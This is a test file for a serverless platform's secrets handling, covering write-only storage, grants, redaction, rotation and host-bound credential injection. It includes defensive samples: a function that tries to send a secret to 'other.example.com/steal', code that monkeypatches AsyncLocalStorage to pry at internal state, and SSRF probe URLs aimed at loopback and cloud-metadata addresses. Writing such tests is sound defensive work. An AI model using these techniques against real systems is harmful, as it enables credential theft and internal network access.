// Secrets are write-only, sealed at rest, granted explicitly and scoped; function environment
// variables are validated (issue 8, items 1, 2 and 7). Every value set here is a recognizable
// random string, and the leak scan at the end looks for them in every response and D1 table.
import { env } from "cloudflare:workers";
import { afterAll, describe, expect, it, vi } from "vitest";
import { api, deploy, expectProblem, json, waitForRun } from "../helpers/api";
import { ended, startJob, waitForJob } from "../helpers/jobs";

const planted: string[] = [];
const plant = (label: string) => {
  const value = `${label}-${crypto.randomUUID()}`;
  planted.push(value);
  return value;
};
/** Every response body this file received, for the leak scan. */
const seen: string[] = [];
async function call(path: string, o: Parameters<typeof api>[1] = {}): Promise<Response> {
  const res = await api(path, o);
  seen.push(await res.clone().text());
  return res;
}
async function keyWith(scopes: string[], functions: string[] | null = null): Promise<string> {
  const res = await call("/v1/keys", { body: { name: `k-${scopes.join("+")}`, scopes, functions } });
  expect(res.status).toBe(201);
  return (await json(res)).key;
}

describe("secrets API", () => {
  it("stores a value write-only: PUT creates then replaces, GET lists names and grants but never the value", async () => {
    const value = plant("sk-first");
    expect((await call("/v1/secrets/CRM_TOKEN", { method: "PUT", body: { value } })).status).toBe(201);
    expect((await call("/v1/secrets/CRM_TOKEN", { method: "PUT", body: { value: plant("sk-second") } })).status).toBe(204);
    const listed = await json(await call("/v1/secrets"));
    const item = listed.items.find((s: { name: string }) => s.name === "CRM_TOKEN");
    expect(item).toMatchObject({ name: "CRM_TOKEN", grants: [], createdBy: "admin", updatedBy: "admin", lastUsedAt: null });
    expect(Object.keys(item).sort()).toEqual(["createdAt", "createdBy", "grants", "keyId", "lastUsedAt", "name", "updatedAt", "updatedBy"]);
    const row = await env.DB.prepare("select * from secrets where name = 'CRM_TOKEN'").first<Record<string, string>>();
    expect(JSON.stringify(row)).not.toContain("sk-second");
  });

  it("refuses bad names and empty values with 400, and deleting twice is a 404", async () => {
    await expectProblem(await call("/v1/secrets/lower_case", { method: "PUT", body: { value: "x" } }), 400, "validation_failed");
    await expectProblem(await call("/v1/secrets/KILN_ADMIN_KEY", { method: "PUT", body: { value: "x" } }), 400, "validation_failed");
    await expectProblem(await call("/v1/secrets/EMPTY", { method: "PUT", body: { value: "" } }), 400, "validation_failed");
    await call("/v1/secrets/TEMP", { method: "PUT", body: { value: plant("temp") } });
    expect((await call("/v1/secrets/TEMP", { method: "DELETE" })).status).toBe(204);
    await expectProblem(await call("/v1/secrets/TEMP", { method: "DELETE" }), 404, "not_found");
  });

  it("needs secrets:read to list and secrets:write to change; a function-limited key grants only its functions", async () => {
    await deploy(
      "crm",
      `import { defineFunction, z } from "kiln";\nexport default defineFunction({ input: z.object({}), secrets: ["CRM_TOKEN"], run: () => 1 });`,
    );
    await deploy(
      "other",
      `import { defineFunction, z } from "kiln";\nexport default defineFunction({ input: z.object({}), run: () => 1 });`,
    );
    const reader = await keyWith(["secrets:read"]);
    expect((await call("/v1/secrets", { key: reader })).status).toBe(200);
    await expectProblem(await call("/v1/secrets/X", { method: "PUT", body: { value: "v" }, key: reader }), 403, "forbidden");
    await expectProblem(
      await call("/v1/functions/crm/grants", { method: "PUT", body: { secrets: ["CRM_TOKEN"] }, key: reader }),
      403,
      "forbidden",
    );
    const caller = await keyWith(["tools:call"]);
    await expectProblem(await call("/v1/secrets", { key: caller }), 403, "forbidden");
    const limited = await keyWith(["secrets:write"], ["crm"]);
    const granted = await call("/v1/functions/crm/grants", { method: "PUT", body: { secrets: ["CRM_TOKEN"] }, key: limited });
    expect(await json(granted)).toEqual({ function: "crm", grants: ["CRM_TOKEN"], env: {}, retentionDays: null });
    await expectProblem(
      await call("/v1/functions/other/grants", { method: "PUT", body: { secrets: ["CRM_TOKEN"] }, key: limited }),
      403,
      "forbidden",
    );
    await expectProblem(await call("/v1/functions/nope/grants", { method: "PUT", body: { secrets: ["CRM_TOKEN"] } }), 404, "not_found");
    const listed = await json(await call("/v1/secrets"));
    expect(listed.items.find((s: { name: string }) => s.name === "CRM_TOKEN").grants).toEqual(["crm"]);
  });

  it("a deploy never grants anything by itself", async () => {
    await deploy(
      "greedy",
      `import { defineFunction, z } from "kiln";\nexport default defineFunction({ input: z.object({}), secrets: ["CRM_TOKEN"], run: () => 1 });`,
    );
    expect((await json(await call("/v1/functions/greedy/config"))).grants).toEqual([]);
  });

  it("validates environment variables: names, count and size", async () => {
    const ok = await call("/v1/functions/crm/env", { method: "PUT", body: { env: { CRM_URL: "https://crm.example", MODEL: "small" } } });
    expect(await json(ok)).toMatchObject({ env: { CRM_URL: "https://crm.example", MODEL: "small" } });
    await expectProblem(
      await call("/v1/functions/crm/env", { method: "PUT", body: { env: { "bad-name": "x" } } }),
      400,
      "validation_failed",
    );
    await expectProblem(
      await call("/v1/functions/crm/env", { method: "PUT", body: { env: { KILN_FUNCTION: "x" } } }),
      400,
      "validation_failed",
    );
    const many = Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`V${i}`, "x"]));
    await expectProblem(await call("/v1/functions/crm/env", { method: "PUT", body: { env: many } }), 400, "validation_failed");
    await expectProblem(
      await call("/v1/functions/crm/env", { method: "PUT", body: { env: { BIG: "x".repeat(5000) } } }),
      400,
      "validation_failed",
    );
    const reader = await keyWith(["functions:read"]);
    await expectProblem(await call("/v1/functions/crm/env", { method: "PUT", body: { env: {} }, key: reader }), 403, "forbidden");
  });

  it("records secret writes, deletes, grants and environment changes in the audit log, without values", async () => {
    const rows = await env.DB.prepare(
      "select action, target, detail from audit_events where action like 'secret.%' or action like 'function.%' order by id",
    ).all();
    const actions = rows.results.map((r) => `${r.action} ${r.target}`);
    expect(actions).toEqual(
      expect.arrayContaining([
        "secret.create CRM_TOKEN",
        "secret.update CRM_TOKEN",
        "secret.delete TEMP",
        "function.grants crm",
        "function.env crm",
      ]),
    );
  });
});

const sha256 = async (text: string) =>
  Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))), (b) =>
    b.toString(16).padStart(2, "0"),
  ).join("");

async function setSecret(name: string, value: string, grantTo: string[] = []): Promise<void> {
  expect((await call(`/v1/secrets/${name}`, { method: "PUT", body: { value } })).status).toBeLessThan(300);
  for (const fn of grantTo) {
    const current = (await json(await call(`/v1/functions/${fn}/config`))).grants as string[];
    expect((await call(`/v1/functions/${fn}/grants`, { method: "PUT", body: { secrets: [...new Set([...current, name])] } })).status).toBe(
      200,
    );
  }
}

async function tool(name: string, input: unknown = {}): Promise<{ res: Response; body: any; run: any }> {
  const res = await call(`/v1/tools/${name}`, { body: input });
  const body = await json(res.clone());
  const run = await waitForRun(res.headers.get("kiln-run-id") ?? "");
  seen.push(JSON.stringify(run));
  return { res, body, run };
}

const fnWith = (manifest: string, body: string) =>
  `import { defineFunction, z } from "kiln";\nexport default defineFunction({ input: z.object({}).passthrough(), ${manifest} async run(input, ctx) { ${body} } });`;

describe("secrets at run time", () => {
  it("gives a run only its granted secrets, and names the missing ones in its trace", async () => {
    await deploy(
      "asker",
      fnWith(
        `secrets: ["ASKER_KEY", "NOT_GRANTED", "NEVER_SET"],`,
        "return { names: Object.keys(ctx.secrets).sort(), length: ctx.secrets.ASKER_KEY.length };",
      ),
    );
    const value = plant("asker");
    await setSecret("ASKER_KEY", value, ["asker"]);
    await setSecret("NOT_GRANTED", plant("ungranted"));
    await call("/v1/functions/asker/grants", { method: "PUT", body: { secrets: ["ASKER_KEY", "NEVER_SET"] } });
    const { body, run } = await tool("asker", {});
    expect(body).toEqual({ names: ["ASKER_KEY"], length: value.length });
    const notes = run.logs.map((l: { message: string }) => l.message).filter((m: string) => m.startsWith("[kiln] secret"));
    expect(notes).toEqual([
      "[kiln] secret NOT_GRANTED is not available to this run (not granted); ctx.secrets.NOT_GRANTED is undefined",
      "[kiln] secret NEVER_SET is not available to this run (not set); ctx.secrets.NEVER_SET is undefined",
    ]);
  });

  it("redacts a granted value from output, logs, step records and errors, in tool calls and jobs", async () => {
    const value = plant("leaky");
    await deploy(
      "leaky",
      fnWith(
        `secrets: ["LEAKY_KEY"],`,
        `const v = ctx.secrets.LEAKY_KEY;
         ctx.log.info("using " + v, { v });
         const echoed = await ctx.step("echo " + v, () => (input.big ? { v, pad: "x".repeat(70000) } : { v }));
         if (input.fail) throw new Error("bad key " + v);
         return { v, echoed, quoted: JSON.stringify(v) };`,
      ),
    );
    await setSecret("LEAKY_KEY", value, ["leaky"]);
    const ok = await tool("leaky");
    expect(ok.body).toEqual({ v: "[redacted:LEAKY_KEY]", echoed: { v: "[redacted:LEAKY_KEY]" }, quoted: '"[redacted:LEAKY_KEY]"' });
    expect(ok.run.logs.find((l: { message: string }) => l.message.startsWith("using"))).toMatchObject({
      message: "using [redacted:LEAKY_KEY]",
    });
    expect(ok.run.steps[0]).toMatchObject({ name: "echo [redacted:LEAKY_KEY]", output: '{"v":"[redacted:LEAKY_KEY]"}' });
    const failed = await tool("leaky", { fail: true });
    expect(failed.res.status).toBe(502);
    expect(failed.body.detail).toBe("bad key [redacted:LEAKY_KEY]");
    expect(failed.run.error.message).toBe("bad key [redacted:LEAKY_KEY]");

    const id = await startJob("leaky", {});
    const done = await waitForJob(id, ended);
    seen.push(JSON.stringify(done));
    expect(done).toMatchObject({ status: "succeeded", output: { v: "[redacted:LEAKY_KEY]" } });
    expect(done.steps[0].output).toBe('{"v":"[redacted:LEAKY_KEY]"}');
    expect(JSON.stringify(done)).not.toContain(value);
    // A step result and an output over 64 KiB, kept whole in R2, are redacted too.
    const big = await startJob("leaky", { big: true });
    expect((await waitForJob(big, ended)).status).toBe("succeeded");
    for (const path of [`/v1/runs/${big}/steps/0/result`, `/v1/runs/${big}/payload/output`]) {
      const whole = await (await call(path)).text();
      expect(whole.length).toBeGreaterThan(70_000);
      expect(whole).toContain('"v":"[redacted:LEAKY_KEY]"');
    }
  });

  it("reaches the next run after a rotation or an environment change, without a redeploy", async () => {
    await deploy(
      "rotor",
      fnWith(
        `secrets: ["ROTOR_KEY"],`,
        `
      const bytes = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(ctx.secrets.ROTOR_KEY ?? "")));
      return { hash: Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join(""), model: ctx.env.MODEL ?? null, fn: ctx.env.KILN_FUNCTION };`,
      ),
    );
    const first = plant("rotor-1");
    await setSecret("ROTOR_KEY", first, ["rotor"]);
    await call("/v1/functions/rotor/env", { method: "PUT", body: { env: { MODEL: "small", KILN_FUNCTION: "x" } } });
    expect((await tool("rotor")).body).toEqual({ hash: await sha256(first), model: null, fn: "rotor" });
    await call("/v1/functions/rotor/env", { method: "PUT", body: { env: { MODEL: "small" } } });
    expect((await tool("rotor")).body).toEqual({ hash: await sha256(first), model: "small", fn: "rotor" });
    const second = plant("rotor-2");
    await setSecret("ROTOR_KEY", second);
    await call("/v1/functions/rotor/env", { method: "PUT", body: { env: { MODEL: "large" } } });
    expect((await tool("rotor")).body).toEqual({ hash: await sha256(second), model: "large", fn: "rotor" });
  });

  it("fails the run loudly, never with a wrong value, when a stored secret cannot be unsealed", async () => {
    await deploy("sealed", fnWith(`secrets: ["SEALED_KEY"],`, "return ctx.secrets.SEALED_KEY;"));
    await setSecret("SEALED_KEY", plant("sealed"), ["sealed"]);
    await env.DB.prepare("update secrets set key_id = '000000000000' where name = 'SEALED_KEY'").run();
    const wrongKey = await tool("sealed");
    expect(wrongKey.res.status).toBe(502);
    expect(wrongKey.body.detail).toMatch(/secret "SEALED_KEY" was sealed with key 000000000000, which is neither KILN_SECRETS_KEY/);
    expect(wrongKey.run).toMatchObject({ status: "failed", error: { name: "SecretsUnavailable", retryable: false } });
    const other = await env.DB.prepare("select key_id from secrets where name = 'ROTOR_KEY'").first<{ key_id: string }>();
    await env.DB.prepare("update secrets set key_id = ?, iv = 'AAAAAAAAAAAAAAAA' where name = 'SEALED_KEY'").bind(other?.key_id).run();
    expect((await tool("sealed")).body.detail).toMatch(/could not be decrypted/);
  });
});

describe("credential injection and egress", () => {
  /** Outbound calls that reach the "internet" (the platform's fetch), with the headers they carried. */
  async function withUpstream<T>(
    work: (calls: { host: string; authorization: string | null; apiKey: string | null }[]) => Promise<T>,
  ): Promise<T> {
    const calls: { host: string; authorization: string | null; apiKey: string | null }[] = [];
    const upstream = vi.spyOn(globalThis, "fetch").mockImplementation(async (input) => {
      const request = input instanceof Request ? input : new Request(String(input));
      const url = new URL(request.url);
      calls.push({ host: url.host, authorization: request.headers.get("authorization"), apiKey: request.headers.get("x-api-key") });
      if (url.pathname === "/bounce")
        return new Response(null, { status: 302, headers: { location: "https://other.example.com/landing" } });
      return Response.json({ ok: true });
    });
    try {
      return await work(calls);
    } finally {
      upstream.mockRestore();
    }
  }

  it("puts a host-bound secret into headers only for its hosts; the isolate never sees the value", async () => {
    const value = plant("injected");
    await deploy(
      "injector",
      fnWith(
        `secrets: [{ name: "MODEL_KEY", hosts: ["api.example.com"] }], egress: ["api.example.com", "other.example.com"],`,
        `const auth = ctx.secretRef("MODEL_KEY", "Bearer {}");
         const good = await fetch("https://api.example.com/v1", { headers: { authorization: auth } });
         const errors = [];
         try { await fetch("https://other.example.com/steal", { headers: { authorization: auth } }); } catch (e) { errors.push(e.message); }
         try { await fetch("https://api.example.com/bounce", { headers: { "x-api-key": ctx.secretRef("MODEL_KEY") } }); } catch (e) { errors.push(e.message); }
         return { status: good.status, visible: Object.keys(ctx.secrets), ref: auth, errors };`,
      ),
    );
    await setSecret("MODEL_KEY", value, ["injector"]);
    const { body, run, calls } = await withUpstream(async (calls) => ({ ...(await tool("injector")), calls }));
    expect(body.status).toBe(200);
    expect(body.visible).toEqual([]);
    expect(body.ref).toBe("Bearer {{kiln-secret:MODEL_KEY}}");
    expect(body.errors).toEqual([
      "secret MODEL_KEY may only be sent to api.example.com, not other.example.com",
      "secret MODEL_KEY may only be sent to api.example.com, not other.example.com",
    ]);
    expect(calls).toEqual([
      { host: "api.example.com", authorization: `Bearer ${value}`, apiKey: null },
      { host: "api.example.com", authorization: null, apiKey: value },
    ]);
    const blocked = run.spans
      .filter((s: { status: number }) => s.status === 403)
      .map((s: { host: string; path: string }) => `${s.host}${s.path}`);
    expect(blocked).toEqual(["other.example.com/steal", "other.example.com/landing"]);
  });

  it("keeps injected values out of reach of the run's channel stub", async () => {
    await deploy(
      "pryer",
      `import { AsyncLocalStorage } from "node:async_hooks";
import { defineFunction, z } from "kiln";
let store = null;
const original = AsyncLocalStorage.prototype.getStore;
AsyncLocalStorage.prototype.getStore = function () { const s = original.call(this); if (s) store = s; return s; };
export default defineFunction({
  input: z.object({}).passthrough(),
  secrets: [{ name: "PRY_KEY", hosts: ["api.example.com"] }],
  egress: ["api.example.com"],
  async run(input, ctx) {
    ctx.log.info("looking");
    const channel = store?.run?.channel;
    const found = [];
    for (const key of ["policy", "ledger", "injected", "egress", "#ledger"]) {
      try { found.push(JSON.stringify(await channel[key]) ?? "undefined"); } catch (e) { found.push("error: " + e.message); }
    }
    return { hasChannel: channel !== undefined, found, env: JSON.stringify(ctx.env), globals: JSON.stringify(Object.keys(globalThis)) };
  },
});`,
    );
    await setSecret("PRY_KEY", plant("pry"), ["pryer"]);
    const { body } = await tool("pryer");
    expect(body.hasChannel).toBe(true);
    expect(body.found).toHaveLength(5);
    // The leak scan (afterAll) fails if any of these answers held the value.
  });

  it("refuses IP literals in every form and local names, even when the allow-list names them", async () => {
    await deploy(
      "prober",
      fnWith(
        `egress: ["127.0.0.1", "localhost:8080", "*.localhost", "169.254.169.254", "*.example.com"],`,
        `const out = [];
         for (const url of input.urls) { try { await fetch(url); out.push("reached " + url); } catch (e) { out.push(e.message); } }
         return out;`,
      ),
    );
    const urls = [
      "http://127.0.0.1/",
      "http://2130706433/",
      "http://0x7f000001/",
      "http://127.1/",
      "http://localhost:8080/",
      "http://a.localhost/",
      "http://169.254.169.254/latest",
      "http://[::1]/",
      "https://u:p@api.example.com/",
      "ftp://files.example.com/",
    ];
    const { body, calls } = await withUpstream(async (calls) => ({ ...(await tool("prober", { urls })), calls }));
    expect(calls).toEqual([]);
    expect(body).toHaveLength(urls.length);
    for (const message of body) expect(message).toMatch(/refused|not allowed|local host name|credentials|scheme/);
  });
});

afterAll(async () => {
  // Leak scan: no planted value in any response body, nor in any D1 table but the sealed one.
  const tables = ["runs", "run_steps", "run_spans", "run_logs", "audit_events", "api_keys", "functions", "function_versions"];
  for (const table of tables) {
    const rows = await env.DB.prepare(`select * from ${table}`).all();
    const text = JSON.stringify(rows.results);
    for (const value of planted) expect(text, `${table} leaks a secret`).not.toContain(value);
  }
  for (const body of seen) for (const value of planted) expect(body).not.toContain(value);
  expect(planted.length).toBeGreaterThanOrEqual(3);
});
